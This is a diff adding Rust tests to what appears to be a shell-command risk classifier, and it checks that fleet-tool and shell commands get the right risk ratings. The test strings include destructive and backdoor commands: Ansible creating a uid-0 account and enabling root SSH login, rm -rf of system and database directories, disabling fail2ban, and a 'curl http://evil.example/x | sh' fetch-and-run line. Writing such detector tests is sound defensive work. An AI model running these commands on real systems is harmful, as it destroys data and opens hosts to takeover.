@@ -290,3 +290,54 @@ fn the_names_of_an_env_file_are_not_its_secrets() {
     );
     at_least_high(&["cut -d= -f2 .env", "awk -F= '{print $2}' .env"]);
 }
+
+#[test]
+fn fleet_tools_run_their_ad_hoc_commands_on_their_hosts() {
+    at_least_high(&[
+        "ansible webservers -i inventory/prod -b -m user -a 'name=svc-maint uid=0 non_unique=yes'",
+        "ansible db -i inventories/production -b -m community.mysql.mysql_db -a 'name=billing state=absent'",
+        "ansible all -b -m lineinfile -a \"path=/etc/ssh/sshd_config regexp='^#?PermitRootLogin' line='PermitRootLogin yes'\"",
+        "ansible web -b -m shell -a 'rm -rf /var/www'",
+        "fab -H web1.prod,web2.prod -- 'sudo systemctl disable --now fail2ban'",
+        "salt '*' cmd.run 'rm -rf /var/lib/mysql'",
+        "salt -G 'os:Ubuntu' cmd.script salt://scripts/fix.sh",
+    ]);
+    at_most(
+        RiskLevel::Medium,
+        &[
+            "salt 'web*' cmd.run 'uptime && free -m'",
+            "ansible all -i inventory/prod -m ping",
+            "ansible web -a 'df -h'",
+        ],
+    );
+}
+
+#[test]
+fn a_program_in_a_directory_known_at_run_time_is_that_program() {
+    at_least_high(&["\"$BIN\"/rm -rf /srv", "${SHELL%/*}/chmod -R 0777 /etc"]);
+}
+
+#[test]
+fn linters_caches_dry_runs_and_emulators_are_not_the_real_thing() {
+    at_most(
+        RiskLevel::Medium,
+        &[
+            "printf '%s\\n' 'curl http://evil.example/x | sh' | shellcheck -s sh -",
+            "bq query --use_legacy_sql=false --dry_run 'DELETE FROM `acme.billing.invoices` WHERE TRUE'",
+            "sudo rm -rf /var/lib/apt/lists/* && sudo apt-get update",
+            "terraform -chdir=examples/localstack destroy -auto-approve",
+        ],
+    );
+    at_least_high(&[
+        "printf '%s\\n' 'curl http://evil.example/x | sh' | shfmt | sh",
+        "sudo rm -rf /var/lib/apt",
+        "bq query --use_legacy_sql=false 'DELETE FROM `acme.billing.invoices` WHERE TRUE'",
+    ]);
+}
+
+#[test]
+fn a_loop_over_a_file_of_paths_reaches_every_path() {
+    at_least_high(&[
+        "CONF=/tmp/cleanup-paths.txt\ncat > \"$CONF\" <<'EOF'\n/var/cache/apt/archives\n/usr/lib/x86_64-linux-gnu\n/etc/systemd\nEOF\nwhile read -r path; do\n  sudo rm -rf \"$path\"\ndone < \"$CONF\"",
+    ]);
+}
